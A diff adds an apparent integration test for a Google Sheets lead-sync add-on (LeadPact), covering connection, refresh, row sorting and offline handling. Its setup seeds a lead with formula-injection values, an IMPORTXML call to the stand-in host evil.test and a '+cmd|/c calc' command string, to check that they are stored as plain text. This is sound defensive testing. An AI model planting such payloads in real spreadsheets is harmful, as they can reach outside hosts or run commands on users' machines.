@@ -1,0 +1,191 @@
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { DEMO_STEPS, type DemoState, seedDemo } from '../../../scripts/seed.mjs';
+import { buildAddon } from '../../../scripts/sheets-build.mjs';
+import { startWorkerServer, type WorkerServer } from '../worker-server';
+import { appsScriptContext, loadBundle } from './fakes/apps-script-globals';
+import { type FakeServices, fakeServices } from './fakes/fake-services';
+import { WRITE_CALLS } from './fakes/fake-spreadsheet';
+import { SyncFetcher } from './fakes/sync-fetch';
+
+/**
+ * The built bundle (not the modules) in a bare V8 context with the fakes,
+ * against the real Worker in workerd with a migrated local D1, seeded through
+ * the API.
+ */
+let server: WorkerServer;
+let demo: DemoState;
+let stateDir = '';
+const fetcher = new SyncFetcher();
+let fake: FakeServices;
+let addon: Record<string, (...args: unknown[]) => unknown>;
+
+async function api(method: string, path: string, token: string, body?: unknown) {
+  const res = await fetch(`${server.url}${path}`, {
+    method,
+    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
+    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
+  });
+  if (res.status >= 300) throw new Error(`${method} ${path}: ${res.status} ${await res.text()}`);
+  return (await res.json()) as Record<string, unknown>;
+}
+
+beforeAll(async () => {
+  await buildAddon();
+  server = await startWorkerServer();
+  stateDir = await mkdtemp(join(tmpdir(), 'leadpact-addon-'));
+  demo = await seedDemo({
+    baseUrl: server.url,
+    adminSecret: server.adminSecret,
+    stateFile: join(stateDir, 'state.json'),
+    steps: DEMO_STEPS,
+  });
+  const contact = demo.sources?.contact?.id ?? '';
+  // A lead whose name is a formula: it must land as text.
+  await api('POST', `/v1/intake/${contact}`, demo.tokens.intake ?? '', {
+    email: 'mallory@evil.test',
+    phone: '+48 600 999 999',
+    firstName: '=IMPORTXML("http://evil.test","//a")',
+    lastName: '',
+    company: '+cmd|/c calc',
+    consent: true,
+  });
+  fake = fakeServices({ fetcher });
+  addon = await loadBundle(appsScriptContext(fake));
+}, 240_000);
+
+afterAll(async () => {
+  await fetcher.close();
+  await server?.dispose();
+  if (stateDir) await rm(stateDir, { recursive: true, force: true });
+});
+
+describe('the built add-on against the real Worker', () => {
+  it('should connect and show workspace, role and member', () => {
+    addon.onOpen?.({});
+    addon.saveConnection?.({ apiUrl: server.url, token: demo.tokens.sales });
+    const check = addon.testConnection?.() as {
+      ok: boolean;
+      workspace: { name: string };
+      caller: { role: string; memberName: string };
+    };
+    expect(check.ok).toBe(true);
+    expect(check.workspace.name).toBe('Demo Manufacturing Sp. z o.o.');
+    expect(check.caller).toEqual({
+      role: 'sales',
+      memberId: demo.members.salesLead,
+      memberName: 'Sorin Popescu',
+    });
+  });
+
+  it('should fill the Leads tab with one read and one write, formula text kept as text', () => {
+    fake.log.reset();
+    const result = addon.refreshAll?.() as { ok: boolean; written: string[] };
+    expect(result.ok).toBe(true);
+    expect(result.written).toContain('leads');
+    expect(fake.log.count('UrlFetchApp.fetch')).toBe(1);
+    expect(fake.log.count('Range.getValues', 'Leads')).toBeLessThanOrEqual(1);
+    expect(fake.log.count('Range.setValues', 'Leads')).toBe(1);
+    const sheet = fake.spreadsheet.sheet('Leads');
+    const grid = sheet.dump();
+    expect(grid[0]?.[0]).toMatch(/^LeadPact · refreshed .+ from 127\.0\.0\.1:\d+$/);
+    expect(grid[1]?.slice(0, 4)).toEqual(['Lead ID', 'Version', 'Sync check', 'Name']);
+    const header = grid[1] ?? [];
+    const col = (name: string) => header.indexOf(name);
+    const rows = grid.slice(2);
+    expect(rows).toHaveLength(4);
+    const byEmail = new Map(rows.map((r) => [r[col('E-mail')], r]));
+    expect(byEmail.get('jan.kowalski@stalmet.pl')?.[col('Name')]).toBe('Jan Kowalski');
+    expect(byEmail.get('jan.kowalski@stalmet.pl')?.[col('Stage')]).toBe('MQL');
+    expect(byEmail.get('jan.kowalski@stalmet.pl')?.[col('SLA')]).toBe('On time');
+    expect(byEmail.get('jan.kowalski@stalmet.pl')?.[col('Phone')]).toBe('+48600100200');
+    expect(byEmail.get('olga@zavod.ru')?.[col('Stage')]).toBe('Lead');
+    const mallory = byEmail.get('mallory@evil.test');
+    expect(mallory?.[col('Name')]).toBe('=IMPORTXML("http://evil.test","//a")');
+    expect(mallory?.[col('Company')]).toBe('+cmd|/c calc');
+    // Nothing LeadPact wrote became a formula.
+    for (const cell of sheet.cells.values()) expect(cell.formula).toBeNull();
+    expect(fake.spreadsheet.timeZone).toBe('Europe/Warsaw');
+    expect(sheet.frozenRows).toBe(2);
+    expect(sheet.rules.map((r) => r.background)).toEqual(['#f4c7c3', '#fce8b2', '#b7e1cd']);
+    expect(sheet.rules[0]?.formula).toContain('="Breached"');
+    expect(sheet.cell(2, col('Action') + 1).background).toBe('#ffffff');
+    expect(sheet.cell(2, col('Lead ID') + 1).background).toBe('#c9daf8');
+    expect(sheet.cell(2, col('Stage') + 1).background).toBe('#e8eaed');
+    expect(sheet.cell(3, col('Action') + 1).validation?.values).toContain('Call attempt');
+    expect(sheet.cell(3, col('Due') + 1).numberFormat).toBe('yyyy-mm-dd hh:mm');
+    expect(sheet.protections.map((p) => [p.description, p.warningOnly])).toEqual([
+      ['LeadPact: identity column', true],
+    ]);
+  });
+
+  it('should write nothing when nothing changed', () => {
+    fake.log.reset();
+    const result = addon.refreshAll?.() as { ok: boolean; written: string[] };
+    expect(result.ok).toBe(true);
+    expect(result.written).toEqual([]);
+    expect(fake.log.count('UrlFetchApp.fetch')).toBe(1);
+    expect([...fake.log.counts].filter(([name]) => WRITE_CALLS.has(name))).toEqual([]);
+    expect(fake.log.writes()).toBe(0);
+    expect(fake.log.count('Range.getValues')).toBe(0);
+  });
+
+  it('should rewrite only the lead that changed, in its row even after the rows were sorted', async () => {
+    const sheet = fake.spreadsheet.sheet('Leads');
+    const header = sheet.dump()[1] ?? [];
+    const emailColumn = header.indexOf('E-mail') + 1;
+    // A person sorts the data rows by e-mail descending (Sheets moves whole rows) and types a note.
+    const data = [3, 4, 5, 6].map((r) =>
+      Array.from({ length: header.length }, (_, c) => ({ ...sheet.cell(r, c + 1) })),
+    );
+    data.sort((a, b) => String(b[emailColumn - 1]?.value).localeCompare(String(a[emailColumn - 1]?.value)));
+    data.forEach((row, i) => {
+      row.forEach((cell, c) => {
+        sheet.cells.set(`${i + 3}:${c + 1}`, cell);
+      });
+    });
+    const janRow =
+      [3, 4, 5, 6].find((r) => sheet.cell(r, emailColumn).value === 'jan.kowalski@stalmet.pl') ?? 0;
+    sheet.type(janRow, header.indexOf('Note') + 1, 'called, no answer');
+    const leads = (await api('GET', '/v1/leads', demo.tokens.sales ?? '')) as {
+      data: Array<{ id: string; email: string }>;
+    };
+    const jan = leads.data.find((l) => l.email === 'jan.kowalski@stalmet.pl');
+    await api('POST', `/v1/leads/${jan?.id}/actions`, demo.tokens.sales ?? '', {
+      type: 'attempt',
+      channel: 'phone',
+      outcome: 'no_answer',
+    });
+
+    fake.log.reset();
+    const result = addon.refreshAll?.() as { ok: boolean; written: string[] };
+    expect(result.written).toEqual(['leads']);
+    expect(fake.log.count('Range.getValues', 'Leads')).toBe(1);
+    expect(fake.log.count('Range.setValues', 'Leads')).toBe(1);
+    expect(sheet.cell(janRow, emailColumn).value).toBe('jan.kowalski@stalmet.pl');
+    expect(sheet.cell(janRow, header.indexOf('Attempts') + 1).value).toBe(1);
+    expect(sheet.cell(janRow, header.indexOf('Last action') + 1).value).toBe('Contact attempt');
+    expect(sheet.cell(janRow, header.indexOf('Note') + 1).value).toBe('called, no answer');
+    const others = [3, 4, 5, 6].filter((r) => r !== janRow);
+    for (const r of others) expect(sheet.cell(r, header.indexOf('Attempts') + 1).value).toBe(0);
+  });
+
+  it('should say why in row 1 when the Worker cannot be reached, and keep the values', () => {
+    const sheet = fake.spreadsheet.sheet('Leads');
+    const before = sheet.dump().slice(1);
+    fake.setUnreachable(true);
+    const result = addon.refreshAll?.() as { ok: boolean; message: string };
+    fake.setUnreachable(false);
+    expect(result.ok).toBe(false);
+    expect(sheet.cell(1, 1).value).toMatch(
+      /^⚠ LeadPact could not refresh this tab at .+: LeadPact cannot be reached/,
+    );
+    expect(sheet.dump().slice(1)).toEqual(before);
+    // The next refresh that reaches the Worker puts the freshness line back.
+    const back = addon.refreshAll?.() as { ok: boolean };
+    expect(back.ok).toBe(true);
+    expect(String(sheet.cell(1, 1).value)).toMatch(/^LeadPact · refreshed/);
+  });
+});
